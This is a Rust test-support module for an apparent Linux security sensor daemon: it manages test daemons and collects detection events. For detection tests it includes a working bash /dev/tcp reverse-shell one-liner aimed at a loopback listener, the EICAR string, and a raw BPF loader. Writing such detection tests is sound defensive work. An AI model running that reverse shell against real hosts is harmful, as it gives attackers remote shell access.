//! Test support: the real daemon on the real kernel, and a collector of its event stream.
//!
//! Tests run as root against the binary `cargo xtask test` builds (`SENSOR_BIN`). Every
//! daemon a test starts gets its own socket in a private directory and is stopped with
//! SIGTERM when its handle drops; the shared one dies with the test process through
//! `PR_SET_PDEATHSIG`, so no test leaves a daemon (or its programs) behind.

use std::{
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::{Arc, Mutex, OnceLock},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use sensor::proto::{self, sensor_client::SensorClient};
use tonic::transport::Channel;

pub use sensor::proto::Event;

pub mod vm;

/// The daemon binary under test.
pub fn sensor_bin() -> PathBuf {
    if let Some(p) = std::env::var_os("SENSOR_BIN") {
        return PathBuf::from(p);
    }
    // Fallback for `cargo test` after `cargo xtask build`.
    let here = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    here.join("../target/release/sensor")
}

/// A private directory, removed on drop.
pub struct TempDir(pub PathBuf);

impl TempDir {
    pub fn new(tag: &str) -> Self {
        Self::under(&std::env::temp_dir(), tag)
    }

    pub fn under(base: &Path, tag: &str) -> Self {
        static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
        let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let p = base.join(format!("sensor-test-{tag}-{}-{n}", std::process::id()));
        let _ = std::fs::remove_dir_all(&p);
        std::fs::create_dir_all(&p).unwrap();
        Self(p)
    }
    pub fn path(&self) -> &Path {
        &self.0
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A private tmpfs, the only thing a real-time protection test lets its daemon mark.
/// Lazily unmounted on drop, so an open file left behind cannot keep it mounted. Mounted
/// outside /tmp: a file run from a world-writable directory is drop-and-execute, which
/// the blocking daemons of concurrent tests would rightly kill.
pub struct Tmpfs(TempDir);

impl Tmpfs {
    pub fn mount(tag: &str) -> Result<Self> {
        let dir = TempDir::under(Path::new("/run/sensor-tests"), tag);
        let st = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=64m,mode=0755", "sensor-test"])
            .arg(dir.path())
            .status()?;
        if !st.success() {
            bail!("mounting a tmpfs on {}", dir.path().display());
        }
        Ok(Self(dir))
    }
    pub fn path(&self) -> &Path {
        self.0.path()
    }
    pub fn arg(&self) -> &str {
        self.0.path().to_str().unwrap()
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let c = std::ffi::CString::new(self.arg()).unwrap();
        // SAFETY: a valid C string.
        unsafe { libc::umount2(c.as_ptr(), libc::MNT_DETACH) };
    }
}

pub struct Daemon {
    pub child: Child,
    pub socket: PathBuf,
    _dir: TempDir,
}

impl Daemon {
    /// Starts a daemon and waits until it answers health.
    pub fn start(extra: &[&str]) -> Result<Self> {
        Self::spawn(extra, false)
    }

    fn spawn(extra: &[&str], die_with_parent: bool) -> Result<Self> {
        let dir = TempDir::new("daemon");
        let socket = dir.path().join("sensor.sock");
        let mut cmd = Command::new(sensor_bin());
        cmd.arg("daemon").arg("--socket").arg(&socket).args(extra);
        if !extra.contains(&"--state-dir") {
            cmd.arg("--state-dir").arg(dir.path().join("state"));
        }
        // Real-time protection marks every local filesystem by default: a test daemon
        // marks only the tmpfs its test mounted (`--rtp-mount`), or nothing.
        if !extra.contains(&"--rtp-mount") {
            cmd.arg("--real-time-protection=false");
        }
        cmd.stdin(Stdio::null()).stdout(Stdio::null());
        cmd.stderr(std::fs::File::create(dir.path().join("daemon.log"))?);
        if die_with_parent {
            use std::os::unix::process::CommandExt;
            // SAFETY: prctl is async-signal-safe.
            unsafe {
                cmd.pre_exec(|| {
                    libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGTERM);
                    Ok(())
                });
            }
        }
        let child = cmd
            .spawn()
            .with_context(|| format!("starting {}", sensor_bin().display()))?;
        let mut d = Self {
            child,
            socket,
            _dir: dir,
        };
        d.wait_ready()?;
        Ok(d)
    }

    fn wait_ready(&mut self) -> Result<()> {
        let deadline = Instant::now() + Duration::from_secs(60);
        while Instant::now() < deadline {
            if let Some(status) = self.child.try_wait()? {
                bail!("daemon exited early ({status}): {}", self.log());
            }
            if self.socket.exists() && health_blocking(&self.socket).is_some() {
                return Ok(());
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        bail!("daemon not ready within 60 s: {}", self.log())
    }

    /// A daemon whose real-time protection marks only `mount`, blocking (in blocking
    /// `mode`) only inside `scope_pid`'s process tree.
    pub fn protecting(mode: &str, mount: &Tmpfs, scope_pid: u32, extra: &[&str]) -> Result<Self> {
        let pid = scope_pid.to_string();
        let mut args = vec![
            "--mode",
            mode,
            "--rtp-mount",
            mount.arg(),
            "--blocking-scope-pid",
            &pid,
        ];
        args.extend_from_slice(extra);
        Self::start(&args)
    }

    /// Real-time protection's health; callable from sync and async tests alike.
    pub fn rtp_health(&self) -> proto::RealTimeProtection {
        health_blocking(&self.socket)
            .and_then(|h| h.real_time_protection)
            .expect("real-time protection health")
    }

    pub fn log(&self) -> String {
        std::fs::read_to_string(self._dir.path().join("daemon.log")).unwrap_or_default()
    }

    pub fn pid(&self) -> u32 {
        self.child.id()
    }

    /// Runs the CLI against this daemon; fails with its stderr if it fails.
    pub fn cli(&self, args: &[&str]) -> Result<String> {
        let out = Command::new(sensor_bin())
            .args(args)
            .arg("--socket")
            .arg(&self.socket)
            .output()?;
        if !out.status.success() {
            bail!(
                "sensor {}: {}",
                args.join(" "),
                String::from_utf8_lossy(&out.stderr)
            );
        }
        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
    }

    /// `cli(args + --output json)`: one JSON document, or one per line.
    pub fn cli_json(&self, args: &[&str]) -> Result<Vec<serde_json::Value>> {
        let mut a = args.to_vec();
        a.extend(["--output", "json"]);
        let out = self.cli(&a)?;
        if let Ok(v) = serde_json::from_str(&out) {
            return Ok(vec![v]);
        }
        out.lines()
            .map(|l| serde_json::from_str(l).with_context(|| format!("not JSON: {l}")))
            .collect()
    }

    /// SIGTERM, then wait for the exit (SIGKILL after 20 s).
    pub fn stop(&mut self) -> Result<std::process::ExitStatus> {
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            if let Some(s) = self.child.try_wait()? {
                return Ok(s);
            }
            if Instant::now() > deadline {
                let _ = self.child.kill();
                bail!("daemon ignored SIGTERM for 20 s");
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.stop();
        }
    }
}

/// One daemon for all tests of a test binary. It is spawned from a thread that lives as
/// long as the process, so PR_SET_PDEATHSIG stops it when the test binary exits.
pub fn shared_daemon() -> &'static Path {
    static SOCKET: OnceLock<PathBuf> = OnceLock::new();
    SOCKET.get_or_init(|| {
        sweep_dead_test_dirs(&std::env::temp_dir());
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            match Daemon::spawn(&[], true) {
                Ok(d) => {
                    tx.send(Ok(d.socket.clone())).unwrap();
                    // Keep the handle (and this thread) alive until the process exits.
                    loop {
                        std::thread::park();
                        let _ = &d;
                    }
                }
                Err(e) => tx.send(Err(e)).unwrap(),
            }
        });
        rx.recv().unwrap().expect("starting the shared daemon")
    })
}

/// Removes the private directories of test processes that are gone. A shared daemon's
/// directory outlives its test binary (statics are never dropped), so the next run clears
/// it. Only names this module gives (`sensor-test-TAG-PID-N`) of dead PIDs are touched.
fn sweep_dead_test_dirs(base: &Path) {
    let Ok(dir) = std::fs::read_dir(base) else {
        return;
    };
    for ent in dir.flatten() {
        let name = ent.file_name().to_string_lossy().into_owned();
        if !name.starts_with("sensor-test-") {
            continue;
        }
        let pid = name.rsplit('-').nth(1).and_then(|p| p.parse::<u32>().ok());
        if let Some(pid) = pid
            && pid != std::process::id()
            && !Path::new(&format!("/proc/{pid}")).exists()
        {
            let _ = std::fs::remove_dir_all(ent.path());
        }
    }
}

/// The EICAR test file: every engine must detect it.
pub const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*\n";

/// Health on its own thread and runtime: callers may be inside an async test already.
pub fn health_blocking(socket: &Path) -> Option<proto::Health> {
    let socket = socket.to_path_buf();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .ok()?;
        rt.block_on(health(&socket)).ok()
    })
    .join()
    .ok()
    .flatten()
}

pub async fn client(socket: &Path) -> Result<SensorClient<Channel>> {
    sensor::cli::connect(socket).await
}

pub async fn health(socket: &Path) -> Result<proto::Health> {
    Ok(client(socket)
        .await?
        .get_health(proto::GetHealthRequest {})
        .await?
        .into_inner())
}

/// Events of the subscription, gathered in the background.
pub struct Collector {
    events: Arc<Mutex<Vec<Event>>>,
    task: tokio::task::JoinHandle<()>,
}

impl Collector {
    /// Subscribes (the subscription is live when this returns) to events of `kinds` from
    /// this test process and its descendants.
    pub async fn start(socket: &Path, kinds: &[&str]) -> Result<Self> {
        let mut c = client(socket).await?;
        let req = proto::StreamEventsRequest {
            kinds: kinds.iter().map(|s| s.to_string()).collect(),
            pids: vec![std::process::id()],
            include_descendants: true,
            ..Default::default()
        };
        let mut stream = c.stream_events(req).await?.into_inner();
        let events = Arc::new(Mutex::new(Vec::new()));
        let sink = events.clone();
        let task = tokio::spawn(async move {
            while let Ok(Some(e)) = stream.message().await {
                sink.lock().unwrap().push(e);
            }
        });
        Ok(Self { events, task })
    }

    /// The first event matching `pred`, waiting up to `timeout`.
    pub async fn wait_for(
        &self,
        timeout: Duration,
        pred: impl Fn(&Event) -> bool,
    ) -> Option<Event> {
        let deadline = Instant::now() + timeout;
        loop {
            if let Some(e) = self.events.lock().unwrap().iter().find(|e| pred(e)) {
                return Some(e.clone());
            }
            if Instant::now() > deadline {
                return None;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }

    /// `wait_for` that fails the test with what was seen.
    pub async fn expect(&self, what: &str, pred: impl Fn(&Event) -> bool) -> Event {
        self.try_expect(Duration::from_secs(10), what, pred)
            .await
            .unwrap_or_else(|e| panic!("{e}"))
    }

    /// `wait_for` that returns an error naming what was seen last.
    pub async fn try_expect(
        &self,
        timeout: Duration,
        what: &str,
        pred: impl Fn(&Event) -> bool,
    ) -> Result<Event> {
        match self.wait_for(timeout, pred).await {
            Some(e) => Ok(e),
            None => {
                let seen: Vec<String> = self
                    .events
                    .lock()
                    .unwrap()
                    .iter()
                    .rev()
                    .take(40)
                    .map(summary)
                    .collect();
                bail!("no event: {what}\nlast events seen:\n{}", seen.join("\n"))
            }
        }
    }

    /// Waits for `pid`'s exit event, then a little longer, and fails the test if a
    /// detection `id` names `pid` or one of its children.
    pub async fn assert_quiet(&self, pid: u32, id: &str) {
        self.expect("exit of the benign look-alike", |e| {
            e.kind == "process_exit" && pid_of(e) == pid
        })
        .await;
        tokio::time::sleep(Duration::from_millis(500)).await;
        let noisy: Vec<_> = self
            .all()
            .into_iter()
            .filter(|e| is(e, id) && from(e, pid))
            .collect();
        assert!(noisy.is_empty(), "benign look-alike raised {id}: {noisy:?}");
    }

    pub fn all(&self) -> Vec<Event> {
        self.events.lock().unwrap().clone()
    }
}

impl Drop for Collector {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// One line per event for failure messages: the process without its ancestry.
pub fn summary(e: &Event) -> String {
    let mut v = sensor::cli::event_json(e);
    if let Some(p) = v.get_mut("process").and_then(|p| p.as_object_mut()) {
        p.retain(|k, _| matches!(k.as_str(), "pid" | "tid" | "ppid" | "exe" | "args"));
    }
    v.to_string()
}

/// Whether `e` is detection `id`.
pub fn is(e: &Event, id: &str) -> bool {
    e.detection.as_ref().is_some_and(|d| d.id == id)
}

/// Whether `e` is about `pid` or one of its children.
pub fn from(e: &Event, pid: u32) -> bool {
    e.process
        .as_ref()
        .is_some_and(|p| p.pid == pid || p.ppid == pid)
}

pub fn pid_of(e: &Event) -> u32 {
    e.process.as_ref().map_or(0, |p| p.pid)
}

/// A real reverse shell: `bash -i` with its stdio on a TCP connection to a loopback
/// listener of the test. Returns the shell (`bash -c`), the attacker's end of the
/// connection, and the listener's port.
pub fn dev_tcp_reverse_shell() -> (Child, std::net::TcpStream, u16) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let shell = Command::new("/bin/bash")
        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (conn, _) = listener.accept().unwrap();
    (shell, conn, port)
}

/// Loads a two-instruction socket filter (`r0 = 0; exit`) named `name` and closes it;
/// returns the descriptor number the load returned.
pub fn load_bpf(name: &[u8]) -> i64 {
    let insns: [u64; 2] = [0x0000_0000_0000_00b7, 0x0000_0000_0000_0095];
    let license = c"GPL";
    let mut attr = [0u8; 128];
    attr[0..4].copy_from_slice(&1u32.to_ne_bytes()); // BPF_PROG_TYPE_SOCKET_FILTER
    attr[4..8].copy_from_slice(&2u32.to_ne_bytes());
    attr[8..16].copy_from_slice(&(insns.as_ptr() as u64).to_ne_bytes());
    attr[16..24].copy_from_slice(&(license.as_ptr() as u64).to_ne_bytes());
    attr[48..48 + name.len()].copy_from_slice(name);
    let fd = unsafe { libc::syscall(libc::SYS_bpf, 5, attr.as_ptr(), attr.len()) };
    assert!(
        fd >= 0,
        "BPF_PROG_LOAD: {}",
        std::io::Error::last_os_error()
    );
    unsafe { libc::close(fd as i32) };
    fd
}

/// The uid of `nobody`, as this machine's account database has it.
pub fn nobody_uid() -> u32 {
    let out = Command::new("id").args(["-u", "nobody"]).output().unwrap();
    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
}

/// A command that runs `program` as the unprivileged user `nobody` (group `nogroup`, no
/// supplementary groups): the local attacker of the threat model.
pub fn as_nobody(program: &str) -> Command {
    let mut c = Command::new("setpriv");
    c.args([
        "--reuid=nobody",
        "--regid=nogroup",
        "--clear-groups",
        "--",
        program,
    ]);
    c
}
